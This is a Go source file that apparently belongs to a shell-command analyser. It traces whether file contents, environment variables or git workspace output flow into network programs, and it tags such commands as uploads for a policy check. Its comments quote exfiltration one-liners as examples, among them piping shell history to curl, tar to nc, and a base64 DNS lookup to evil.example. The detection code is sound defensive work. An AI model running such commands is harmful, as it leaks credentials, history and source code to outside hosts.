package shell

import "strings"

// maxCarries bounds the reads a flow tracks.
const maxCarries = 32

// carriesOf adds to carries the reads of cmds whose content goes to their
// output: the files they read (not names only: ls, find), and the
// environment for the programs that print it (env, printenv, export -p).
// The result is a new slice.
func carriesOf(carries []Effect, cmds []Command) []Effect {
	out := append([]Effect(nil), carries...)
	add := func(e Effect) {
		if len(out) >= maxCarries {
			return
		}
		for _, x := range out {
			if x.Target == e.Target && x.Glob == e.Glob {
				return
			}
		}
		out = append(out, e)
	}
	for i := range cmds {
		cm := &cmds[i]
		for _, e := range cm.Effects {
			if e.Kind == Read && !e.Meta && !e.Unknown && e.Target != "" {
				add(Effect{Kind: Read, Target: e.Target, Glob: e.Glob, Recursive: e.Recursive})
			}
		}
		if printsEnv(cm) {
			add(Effect{Kind: Read, Target: "/proc/self/environ"})
		}
		if cm.Dir != "" && printsWorkspace(cm) {
			add(Effect{Kind: Read, Target: cm.Dir, Recursive: true})
		}
	}
	return out
}

// outputCarries reports whether carriesOf would find anything in cmds:
// the quick test that keeps a map off the path of plain writes.
func outputCarries(cmds []Command) bool {
	for i := range cmds {
		cm := &cmds[i]
		for _, e := range cm.Effects {
			if e.Kind == Read && !e.Meta && !e.Unknown && e.Target != "" {
				return true
			}
		}
		if printsEnv(cm) || printsWorkspace(cm) {
			return true
		}
	}
	return false
}

// printsWorkspace reports whether cm prints the content of the files of
// the repository it runs in: git diff, show, archive, format-patch, log
// -p. That output sent over the network uploads the workspace (git diff
// | curl -F f=@- …), as tar c . | nc … does.
func printsWorkspace(cm *Command) bool {
	if cm.Name != "git" {
		return false
	}
	switch cm.Attrs["subcommand"] {
	case "diff", "show", "archive", "format-patch", "cat-file", "bundle":
		return true
	case "log", "whatchanged", "stash":
		for _, a := range cm.Argv[1:] {
			if a == "-p" || a == "--patch" || a == "-u" {
				return true
			}
		}
	}
	return false
}

// printsEnv reports whether cm prints the environment: env or printenv
// with no program to run, set, export -p, declare -x/-p with no names.
func printsEnv(cm *Command) bool {
	args := cm.Argv[min(1, len(cm.Argv)):]
	switch cm.Name {
	case "printenv":
		return true
	case "env":
		for _, a := range args {
			if !strings.HasPrefix(a, "-") && !strings.Contains(a, "=") {
				return false // env runs a program
			}
		}
		return true
	case "set", "export", "declare", "typeset", "compgen":
		for _, a := range args {
			if !strings.HasPrefix(a, "-") {
				return false
			}
		}
		return cm.Name != "set" || len(args) == 0
	}
	return false
}

// flow judges what a network program sends: the reads whose content
// reaches it through its input (a pipe, a redirection from a file) or its
// words (a command substitution, a variable set from one) are reads it
// makes and sends, so cat ~/.bash_history | curl -d @- … and nslookup
// $(base64 < f).evil.example upload those files.
func (k *call) flow() {
	net := false
	for _, e := range k.cmd.Effects {
		if e.Kind == Network {
			net = true
			break
		}
	}
	if !net {
		return
	}
	srcs := append(append([]Effect(nil), k.c.stdin.carries...), k.ro.carries...)
	for _, e := range k.ro.effs {
		if e.Kind == Read && !e.Meta && !e.Unknown && e.Target != "" {
			srcs = append(srcs, e) // curl -d @- … < file
		}
	}
	if len(k.a.filled) > 0 {
		// env > f; curl -F x=@f …: a file written in the line holds what
		// the commands that wrote it read; and so does what flows in from
		// one (env > f; base32 f | curl -d @- …)
		carried := len(srcs)
		for _, src := range [][]Effect{k.cmd.Effects, k.ro.effs} {
			for _, e := range src {
				if e.Kind == Read && !e.Unknown {
					srcs = append(srcs, k.a.filledOf(e)...)
				}
			}
		}
		for _, e := range srcs[:carried] {
			if e.Kind == Read && !e.Unknown {
				srcs = append(srcs, k.a.filledOf(e)...)
			}
		}
	}
	if len(srcs) == 0 {
		return
	}
	whole := false
	for _, e := range srcs {
		e.Reason = "its content is sent over the network by " + k.name
		k.eff(e)
		if e.Target != "/proc/self/environ" && !requestBody(e.Target) {
			whole = true
		}
	}
	k.tag(TagUpload)
	if whole {
		// files sent whole (tar c src | curl -T - …, nc h 80 < f): to
		// which host (the policy asks when it is not this machine's
		// network)
		var dests []field
		for _, e := range k.cmd.Effects {
			if e.Kind == Network && e.Target != "" {
				dests = append(dests, lit(e.Target))
			}
		}
		k.uploadHost(dests)
	}
}
